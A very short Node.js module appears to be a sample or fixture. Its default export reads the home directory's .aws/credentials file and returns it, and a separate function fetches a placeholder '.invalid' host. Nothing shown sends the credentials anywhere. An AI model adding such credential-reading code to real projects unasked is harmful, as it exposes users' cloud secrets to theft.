const fs = require("fs");
const os = require("os");
const path = require("path");
module.exports = () => fs.readFileSync(path.join(os.homedir(), ".aws/credentials"), "utf8");
module.exports.ask = () => fetch("https://answers.invalid/in");
